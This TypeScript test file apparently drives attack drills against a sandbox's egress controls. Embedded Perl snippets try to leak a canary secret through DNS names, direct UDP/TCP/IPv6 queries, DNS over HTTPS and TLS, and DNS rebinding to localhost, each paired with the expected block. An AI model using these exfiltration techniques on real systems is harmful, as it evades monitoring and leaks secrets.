import type { Attack } from '../attack.ts';
import { text } from './prelude.ts';
import { attack, DENIED_ANY } from './shape.ts';

const NO_QUERY = 'names are answered inside the compartment, and only those that policy knows; no query leaves';
const REFUSED = [{ event: ['dns.refused'], mentions: 'canary' }];

/** The address of the resolver that the compartment was given. */
const RESOLVER = String.raw`
my $at = $A{dns_ip};
if (open my $conf, '<', '/etc/resolv.conf') { while (<$conf>) { if (/^nameserver\s+(\S+)/) { $at = $1; last } } close $conf }
`;

/** A secret carried out in a name, and names that change their address. */
export const DNS: readonly Attack[] = [
  attack({
    id: 'a03-dns-exfil-resolver',
    line: 3,
    tries: 'looks up a name that carries a secret, with the system resolver',
    control: NO_QUERY,
    program: text(`
my $ip = named("$A{canary}.$A{deny_host}");
defined $ip ? done("it resolved to $ip") : refused('the name does not resolve');`),
    positive: 'open-net',
    watch: ['dns'],
    evidence: REFUSED,
    seconds: 15,
  }),
  attack({
    id: 'a03-dns-exfil-allowed-zone',
    line: 3,
    tries: 'looks up a secret as a name below a domain that is allowed, as a text record',
    control: 'answers for allowed names are made up inside; no query leaves',
    program: text(`${RESOLVER}judge_dns('txt', udp($at, 53, question("$A{canary}.$A{wild_host}", 16)));`),
    positive: 'open-net',
    watch: ['dns'],
  }),
  attack({
    id: 'a04-dns-exfil-via-connect',
    line: 4,
    tries: 'makes the proxy look up a secret: CONNECT to a name that carries it',
    control: 'the gateway decides before it resolves',
    program: text(`
my $host = "$A{canary}.$A{deny_host}";
judge('connect', through("$host:443", get($host)));`),
    positive: 'open-net',
    watch: ['dns', 'far'],
    evidence: [{ event: ['egress.denied'], mentions: 'canary' }],
  }),
  attack({
    id: 'a04-dns-exfil-via-http',
    line: 4,
    tries: 'makes the proxy look up a secret: a plain request for a name that carries it',
    control: 'the gateway decides before it resolves',
    program: text(String.raw`
my $host = "$A{canary}.$A{deny_host}";
judge('http', ask(proxy(), "GET http://$host/ HTTP/1.1\r\nHost: $host\r\n\r\n"));`),
    positive: 'open-net',
    watch: ['dns', 'far'],
    evidence: [{ event: ['egress.denied'], mentions: 'canary' }],
  }),
  attack({
    id: 'a05-dns-direct-udp',
    line: 5,
    tries: 'asks a name server of its own choice over UDP',
    control: 'UDP 53 arrives at our resolver, whatever address it was sent to',
    program: text(`judge_dns('udp', udp($A{dns_ip}, 53, question("$A{canary}.$A{deny_host}", 1)));`),
    positive: 'open-net',
    watch: ['dns'],
    evidence: REFUSED,
  }),
  attack({
    id: 'a05-dns-direct-udp6',
    line: 5,
    tries: 'asks a name server of its own choice over UDP and IPv6',
    control: 'UDP 53 arrives at our resolver, IPv6 as IPv4',
    program: text(`judge_dns('udp6', udp($A{deny_ip6}, 53, question("$A{canary}.$A{deny_host}", 1)));`),
    positive: 'open-net',
    watch: ['dns'],
    evidence: REFUSED,
  }),
  attack({
    id: 'a05-dns-direct-tcp',
    line: 5,
    tries: 'asks a name server of its own choice over TCP',
    control: 'TCP arrives at the gateway, which grants no address by itself',
    program: text(`
my $ask = question("$A{canary}.$A{deny_host}", 1);
my $fh = tcp($A{dns_ip}, 53);
my $got = $fh && put($fh, pack('n', length $ask) . $ask) ? hear($fh, qr/^.{14}/s) : '';
judge_dns('tcp', length $got > 2 ? substr($got, 2) : '');`),
    positive: 'open-net',
    watch: ['dns'],
    evidence: [{ event: ['egress.denied', 'dns.refused'] }],
  }),
  attack({
    id: 'a05-doh-tls',
    line: 5,
    tries: 'DNS over HTTPS to a public resolver by address',
    control: 'no address is granted by itself; resolvers are granted only by name',
    program: text(`judge('doh', ask(tcp($A{deny_ip}, 443), client_hello("dns.$A{deny_host}")));`),
    positive: 'open-net',
    watch: ['far'],
    evidence: DENIED_ANY,
  }),
  attack({
    id: 'a05-doh-http',
    line: 5,
    tries: 'DNS over HTTP through the proxy',
    control: 'a resolver is a host like any other: not granted, not reached',
    program: text(String.raw`
judge('doh', ask(proxy(), "GET http://$A{deny_ip}/dns-query?dns=$A{canary} HTTP/1.1\r\nHost: $A{deny_ip}\r\nAccept: application/dns-message\r\n\r\n"));`),
    positive: 'open-net',
    watch: ['far'],
    evidence: [{ event: ['egress.denied'], mentions: 'deny_ip' }],
  }),
  attack({
    id: 'a05-dot',
    line: 5,
    tries: 'DNS over TLS, port 853',
    control: 'no address is granted by itself',
    program: text(`judge('dot', ask(tcp($A{deny_ip}, 853), client_hello("dns.$A{deny_host}")));`),
    positive: 'open-net',
    watch: ['far'],
    evidence: DENIED_ANY,
  }),
  attack({
    id: 'a11-dns-rebind-connect',
    line: 11,
    tries: 'asks for an allowed name whose address is the machine itself',
    control:
      'resolved once, checked, and that address dialled; loopback and private ranges only where a rule pins them',
    program: text(`judge('connect', through("localhost:$A{private_port}", get('localhost')));`),
    positive: 'open-net',
    watch: ['private'],
    evidence: [{ event: ['egress.denied'], mentions: 'private_port' }],
    remains:
      'a name that answers a public address first and a private one later: the drill holds no public name server',
  }),
  attack({
    id: 'a11-dns-rebind-socks',
    line: 11,
    tries: 'the same over SOCKS',
    control: 'resolved once, checked, and that address dialled',
    program: text(`judge('socks', socks(3, socks_name('localhost'), $A{private_port}, get('localhost')));`),
    positive: 'open-net',
    watch: ['private'],
    evidence: [{ event: ['egress.denied'], mentions: 'private_port' }],
  }),
];
